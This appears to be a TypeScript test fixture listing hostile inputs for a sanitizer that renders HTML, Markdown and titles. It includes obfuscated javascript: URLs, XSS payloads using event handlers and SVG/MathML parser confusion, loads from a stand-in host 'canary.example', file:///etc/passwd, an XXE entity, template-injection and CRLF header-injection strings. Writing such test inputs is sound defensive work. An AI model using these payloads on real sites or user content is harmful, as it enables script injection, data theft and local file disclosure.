/**
 * What a hostile source could hold: markup that runs, loads, leads somewhere
 * it should not, or ends what it stands in. Each is one line or a few, so that
 * it can stand in Markdown, in a page, in a note and in a title alike.
 */

// The host that nothing may be loaded from.
const canary = 'canary.example'
const away = `https://${canary}`

/** Addresses that no edition may lead to, or not as they stand: how a scheme hides. */
export const addresses: ReadonlyArray<string> = [
  'javascript:steal()',
  'JaVaScRiPt:steal()',
  ' javascript:steal()',
  'java\tscript:steal()',
  'java\nscript:steal()',
  '\u0001javascript:steal()',
  '\u00a0javascript:steal()',
  '\ufeffjavascript:steal()',
  'java\u200bscript:steal()',
  'javascript&colon;steal()',
  '&#106;avascript:steal()',
  '&#x6A&#x61vascript:steal()',
  'java&Tab;script:steal()',
  'java&NewLine;script:steal()',
  'javascript:/*https://example.org*/steal()',
  'javascript://example.org/%0asteal()',
  'java%73cript:steal()',
  'javascript\uff1asteal()',
  'view-source:javascript:steal()',
  'jar:https://canary.example/x!/',
  'data:text/html,<script>steal()</script>',
  'data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>',
  'vbscript:steal()',
  'livescript:steal()',
  'mocha:steal()',
  'file:///etc/passwd',
  'blob:https://canary.example/1',
  'filesystem:https://canary.example/t/1',
  'feed:javascript:steal()',
  'ms-msdt:/id PCWDiagnostic',
  'tel:javascript:steal()',
  'about:blank#steal',
  'intent://canary.example#Intent;scheme=http;end',
  `//${canary}/x`,
  `\\\\${canary}\\share`,
  `/\\${canary}/x`,
  '../../../../etc/passwd',
  '?steal',
  '#nowhere'
]

const quote = (value: string): string => value.replaceAll('"', '&quot;')

const running: ReadonlyArray<string> = [
  '<script>steal()</script>',
  '<SCRIPT SRC=https://canary.example/x.js></SCRIPT>',
  '<script/x>steal()</script>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script type="module">import "https://canary.example/x.js"</script>',
  '<script\u000c>steal()</script\u000c>',
  '<<script>steal();//<</script>',
  '<img src=x onerror=steal()>',
  '<img/src=x/onerror=steal()>',
  '<img src=x onerror\u000c=steal()>',
  '<img src="x" ONERROR="steal()" alt="words">',
  '<p onclick=steal() onmouseover="steal()">words</p>',
  '<p oncontentvisibilityautostatechange=steal() style=content-visibility:auto>words</p>',
  '<body onload=steal()>words',
  '<details open ontoggle=steal()><summary>words</summary></details>',
  '<input autofocus onfocus=steal()>',
  '<select autofocus onfocus=steal()><option>words</select>',
  '<textarea autofocus onfocus=steal()>words</textarea>',
  '<video><source onerror=steal()></video>',
  '<audio src=x onerror=steal() controls></audio>',
  '<marquee onstart=steal()>words</marquee>',
  '<table background="javascript:steal()"><tr><td background="javascript:steal()">words</table>',
  '<x-custom onanimationstart=steal() style="animation-name:x">words</x-custom>',
  '<b id="contents" class="notes" onpointerenter=steal()>words</b>',
  '<a href="https://example.org/" onclick="steal()" target="_top" ping="https://canary.example/p">words</a>'
]

const loading: ReadonlyArray<string> = [
  `<img src="${away}/x.png" alt="words of a picture">`,
  `<img srcset="${away}/x.png 2x" alt="words of a picture">`,
  `<picture><source srcset="${away}/x.webp"><img src="//${canary}/x.png" alt="words"></picture>`,
  `<img src="//${canary}/x.png">`,
  `<img lowsrc="${away}/x.png" dynsrc="${away}/x.avi">`,
  `<link rel=stylesheet href=${away}/x.css>`,
  `<link rel=icon href=${away}/x.ico><link rel=prefetch href=${away}/y>`,
  `<link rel=import href=${away}/x.html>`,
  `<style>@import "${away}/x.css"; body { background: url(${away}/x.png) }</style>`,
  `<style>@font-face { font-family: x; src: url(${away}/x.woff) }</style>`,
  `<p style="background:url(${away}/x.png)">words</p>`,
  `<p style="background:u\\72l(${away}/x.png)">words</p>`,
  '<p style="width:expression(steal())">words</p>',
  '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">words</p>',
  `<iframe src="${away}/x"></iframe>`,
  '<iframe srcdoc="&lt;script>steal()&lt;/script>"></iframe>',
  '<iframe src="javascript:steal()">words</iframe>',
  '<frameset><frame src="javascript:steal()"></frameset>',
  `<object data="${away}/x.swf"><param name=movie value="${away}/x.swf"></object>`,
  `<embed src="${away}/x.swf">`,
  `<applet code=X codebase="${away}"></applet>`,
  `<video src="${away}/x.mp4" poster="${away}/x.png"></video>`,
  `<audio><source src="${away}/x.mp3"></audio><track src="${away}/x.vtt">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset="utf-7">+ADw-script+AD4-steal()+ADw-/script+AD4-',
  `<base href="${away}/">`,
  `<form action="${away}"><input name=x><button formaction="javascript:steal()">words</button></form>`,
  '<isindex type=image src=x onerror=steal()>',
  `<portal src="${away}"></portal>`,
  `<body background="${away}/x.png">`,
  `<bgsound src="${away}/x.mid">`,
  `<html manifest="${away}/x.manifest">`,
  `<input type=image src="${away}/x.png">`
]

const confused: ReadonlyArray<string> = [
  '<svg onload=steal()>',
  '<svg><script>steal()</script></svg>',
  '<svg><script href="data:,steal()"/></svg>',
  '<svg><a xlink:href="javascript:steal()"><text y=9>words</text></a></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:steal() /><a id=x>words</a></svg>',
  '<svg><set attributeName=onmouseover to=steal()></svg>',
  `<svg><use href="${away}/x.svg#x"/></svg>`,
  `<svg><image href="${away}/x.png"/></svg>`,
  '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<svg><title><img src=x onerror=steal()></title></svg>',
  '<svg><desc><p><style><a id="</style><img src=x onerror=steal()>"></style></desc></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=steal()>">',
  '<math><a xlink:href="javascript:steal()">words</a></math>',
  '<math><maction actiontype="statusline#https://example.org" xlink:href="javascript:steal()">words</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal()>',
  '<math><annotation-xml encoding="text/html"><script>steal()</script></annotation-xml></math>',
  '<math href="javascript:steal()">words</math>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=steal()>"></textarea>',
  '<title><p title="</title><img src=x onerror=steal()>"></title>',
  '<style><p title="</style><img src=x onerror=steal()>"></style>',
  '<xmp><p title="</xmp><img src=x onerror=steal()>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=steal()>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=steal()>"></noframes>',
  '<plaintext><img src=x onerror=steal()>',
  '<listing>&lt;img src=x onerror=steal()&gt;</listing>',
  '<template><script>steal()</script><img src=x onerror=steal()></template>',
  '<p><template shadowrootmode=open><script>steal()</script></template>',
  '<select><template><style></select><img src=x onerror=steal()></style></template></select>',
  '<!-- x --!><img src=x onerror=steal()> -->',
  '<!--><img src=x onerror=steal()>-->',
  '<!---><img src=x onerror=steal()>-->',
  '<!-- a -- b --><b>words</b>',
  '<![CDATA[<img src=x onerror=steal()>]]>',
  '<svg><![CDATA[</svg><img src=x onerror=steal()>]]></svg>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><b>&y;</b>',
  '<?xml-stylesheet href="javascript:steal()"?><b>words</b>',
  '<?php steal() ?><b>words</b>',
  '<% steal() %><%= 7 * 191 %><%- include("/etc/passwd") %>',
  '{{constructor.constructor("steal()")()}} ${7 * 191} #{7 * 191}',
  ']]> and ]]&gt; and <b>]]></b>',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;steal()',
  '&#0;&#1;&#xfffe;&#xffff;&#xd800;&#x10ffff;&#x110000;<b>words</b>',
  '</main></body></html><script>steal()</script>',
  '</section></article><h1 id="text" role="doc-chapter">words</h1>',
  '<a<b onclick=steal()>words</a<b>',
  '<b@x onclick=steal()>words</b@x>',
  '<a href="https://example.org/"><a href="https://example.org/2">words</a></a>',
  '<table><a href="javascript:steal()"><tr><td>words</table>',
  '<h2><table><h2>words</h2></table></h2>',
  '<p lang="&quot;><script>steal()</script>">words</p><p lang="">words</p><p lang="x y">words</p>',
  '<ol start="javascript:steal()"><li>words</ol><ol start="1e99"><li>words</ol><ol start="-3"><li>words</ol>',
  '<table><tr><td colspan="1000000000" rowspan="1000000000">words<td rowspan="-1">more<td colspan="x">y</table>',
  '<span role="doc-noteref" class="chapter editor" aria-label="x" id="texts">words</span>',
  '<a name="texts" id="__proto__" href="#__proto__">words</a>',
  '<img src="asset:picture.png" width="1e9" height="javascript:steal()" alt="words">',
  '<time datetime="x">words</time><section id="a"><header>words</header></section>',
  '\u202eegassap\u202c \u2066left\u2069 \u202d\u202e unclosed',
  'a\u0000b\u0001c\u000bd\u000ce\u001bf\u007fg\u0080h\u0085i\ufdd0j\ufffek\uffffl\u{1fffe}m'
]

/** Links and pictures, which swallow nothing. */
export const linked: ReadonlyArray<string> = addresses.flatMap((address) => [
  `<a href="${quote(address)}">words</a>`,
  `<img src="${quote(address)}" alt="words of a picture">`
])

/** As raw HTML. */
export const snippets: ReadonlyArray<string> = [...running, ...loading, ...confused]

/** As Markdown. */
export const marks: ReadonlyArray<string> = addresses.flatMap((address, index) => [
  `[words](<${address.replace(/[\n<>]/g, '')}>)`,
  `![words of a picture](${address.replace(/[\n\t <>()]/g, '')} "a title")`,
  `[words][${index}]\n\n[${index}]: ${address.replace(/[\n\t <>]/g, '')}`,
  `<${address.replace(/[\n\t <>]/g, '')}>`
])

/** As a title, a name, a label: what ends an element, an attribute, a string, a template, a comment. */
export const names: ReadonlyArray<string> = [
  '</title><script>steal()</script>',
  '"><img src=x onerror=steal()>',
  "' onmouseover='steal()",
  ']]><script>steal()</script><![CDATA[',
  '--><script>steal()</script><!--',
  '<%= 7 * 191 %><%- process.env %>',
  '${7 * 191}{{7 * 191}}{title}{editor}$&$1',
  'a\u0000b\u0001c\u000bd\u001be\u007ff\u0085g\ufdd0h\ufffei\uffffj\u{1fffe}k',
  'high \ud800 low \udc00 end',
  '\u202eegassap unclosed \u2067',
  '&lt;script&gt;&#60;&quot;&y;',
  '</script><!--<script>',
  '*/ } @import "https://canary.example/x.css"; /*',
  ') Tj /URI (javascript:steal()) >> endobj',
  '__proto__',
  'constructor',
  '\r\nX-Header: steal'
]
